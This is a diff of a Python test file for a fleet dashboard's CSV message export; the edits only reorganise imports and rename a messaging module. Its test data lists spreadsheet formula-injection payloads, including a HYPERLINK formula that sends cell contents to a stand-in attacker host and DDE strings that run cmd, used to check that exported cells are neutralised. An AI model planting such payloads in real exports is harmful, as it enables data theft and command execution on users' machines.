@@ -5,8 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
-from fleet_dashboard.services import export, messaging, templates
-from fleet_dashboard.services.permissions import SYSTEM
+from fleet_dashboard.accounts.permissions import SYSTEM
+from fleet_dashboard.messaging import export, messages, templates
 
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -21,9 +21,9 @@ def test_cells_that_a_spreadsheet_would_run_are_neutralised(db, make_org):
     templates.create(session=db, org_id=org.id, name="raw", message_template="{{note}}", actor=SYSTEM)
     for payload in PAYLOADS:
         # Through a template variable, as an API caller would supply it.
-        messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", template_name="raw",
+        messages.create_message(session=db, org_id=org.id, recipient="+201001234567", template_name="raw",
                                  variables={"note": payload}, actor=SYSTEM)
-    failed, _ = messaging.create_message(session=db, org_id=org.id, recipient="+201001234568", text="plain",
+    failed, _ = messages.create_message(session=db, org_id=org.id, recipient="+201001234568", text="plain",
                                          actor=SYSTEM)
     failed.error = "=2+5"
     db.add(failed)
@@ -48,8 +48,8 @@ def test_cells_that_a_spreadsheet_would_run_are_neutralised(db, make_org):
 def test_export_pages_through_filters_and_stops_at_the_cap(db, make_org):
     org, other = make_org(), make_org("Other")
     for i in range(7):
-        messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", text=f"m{i}", actor=SYSTEM)
-    messaging.create_message(session=db, org_id=other.id, recipient="+201001234567", text="not ours", actor=SYSTEM)
+        messages.create_message(session=db, org_id=org.id, recipient="+201001234567", text=f"m{i}", actor=SYSTEM)
+    messages.create_message(session=db, org_id=other.id, recipient="+201001234567", text="not ours", actor=SYSTEM)
     db.commit()
     chunks = list(export.MessagesCsv(session=db, org_id=org.id, actor=SYSTEM, page_rows=3))
     assert len(chunks) == 1 + 3, "a header, then one chunk per page"
@@ -72,12 +72,12 @@ def test_safe_cell_values():
 def test_export_times_are_in_the_organisations_zone(db, make_org):
     from datetime import UTC, datetime
 
-    from fleet_dashboard.models import WhatsAppMessage
-    from fleet_dashboard.services import org_lifecycle
-    from fleet_dashboard.services.permissions import platform
+    from fleet_dashboard.accounts import lifecycle
+    from fleet_dashboard.accounts.permissions import platform
+    from fleet_dashboard.messaging.models import WhatsAppMessage
 
     org = make_org()
-    org_lifecycle.set_timezone(session=db, actor=platform("test"), org_id=org.id, timezone="Asia/Riyadh")
+    lifecycle.set_timezone(session=db, actor=platform("test"), org_id=org.id, timezone="Asia/Riyadh")
     db.add(WhatsAppMessage(org_id=org.id, recipient_phone="+966501234567", message_body="hi", status="sent",
                            created_at=datetime(2025, 1, 5, 6, 0, 7, tzinfo=UTC),
                            sent_at=datetime(2025, 1, 5, 6, 1, tzinfo=UTC)))
